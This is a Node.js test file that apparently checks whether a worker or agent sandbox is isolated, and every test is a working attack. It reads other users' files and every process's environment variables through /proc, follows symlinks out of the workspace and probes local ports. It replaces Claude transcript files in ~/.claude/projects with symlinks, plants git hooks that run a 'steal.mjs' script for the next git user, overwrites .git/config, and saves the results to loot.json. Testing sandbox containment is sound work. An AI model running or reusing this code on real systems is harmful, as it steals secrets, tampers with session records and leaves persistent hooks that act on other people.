import { execFileSync } from "node:child_process";
import {
  chmodSync,
  copyFileSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { connect } from "node:net";
import { homedir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import targets from "./targets.json" with { type: "json" };

const loot = { attempts: 0, files: {}, folders: {}, environments: [], ports: [], links: {}, sessions: 0, ran: "" };

function attempt(action) {
  loot.attempts += 1;
  try {
    return action();
  } catch {
    return undefined;
  }
}

function reach(port) {
  loot.attempts += 1;
  return new Promise((resolve) => {
    const socket = connect({ host: "127.0.0.1", port, timeout: 2000 });
    socket.once("connect", () => socket.end("GET /attack HTTP/1.0\r\n\r\n", () => resolve(true)));
    socket.once("error", () => resolve(false));
    socket.once("timeout", () => resolve(false));
  });
}

test("reads files and folders of others", () => {
  for (const path of targets.files) loot.files[path] = attempt(() => readFileSync(path, "utf8")) ?? null;
  for (const path of targets.folders) loot.folders[path] = attempt(() => readdirSync(path)) ?? null;
});

test("follows links out of the workspace", () => {
  loot.links.shadow = attempt(() => readFileSync("to-shadow", "utf8")) ?? null;
  for (const path of targets.files)
    for (const link of ["to-everything", "to-above"])
      loot.links[`${link}${path}`] = attempt(() => readFileSync(join(link, path), "utf8")) ?? null;
});

test("reads the environment of every process", () => {
  for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name)))
    loot.environments.push(attempt(() => readFileSync(`/proc/${pid}/environ`, "utf8")) ?? "");
});

test("reaches ports of the machine", async () => {
  for (const port of targets.ports) if (await reach(port)) loot.ports.push(port);
});

test("turns transcripts into links to files of the worker", () => {
  const projects = join(homedir(), ".claude", "projects");
  for (const project of attempt(() => readdirSync(projects)) ?? [])
    for (const name of readdirSync(join(projects, project)).filter((entry) => entry.endsWith(".jsonl"))) {
      rmSync(join(projects, project, name));
      symlinkSync(targets.files[0], join(projects, project, name));
      loot.sessions += 1;
    }
});

test("plants hooks and settings for whoever runs git here next", () => {
  if (attempt(() => readdirSync(".git")) === undefined) return;
  mkdirSync("hooks", { recursive: true });
  for (const name of [
    "pre-commit",
    "post-commit",
    "post-checkout",
    "pre-push",
    "reference-transaction",
    "post-index-change",
  ])
    for (const folder of ["hooks", join(".git", "hooks")]) {
      mkdirSync(folder, { recursive: true });
      writeFileSync(join(folder, name), `#!/bin/sh\nnode steal.mjs git-hook-${name}\n`);
      chmodSync(join(folder, name), 0o755);
    }
  writeFileSync("left.txt", "left uncommitted\n");
  copyFileSync("git-config", join(".git", "config"));
  for (const path of targets.files) attempt(() => execFileSync("git", ["hash-object", "-w", path]));
});

test("writes down what it got", () => {
  loot.ran = attempt(() => readFileSync(join(homedir(), "ran.txt"), "utf8")) ?? "";
  writeFileSync("loot.json", JSON.stringify(loot, undefined, 2));
});
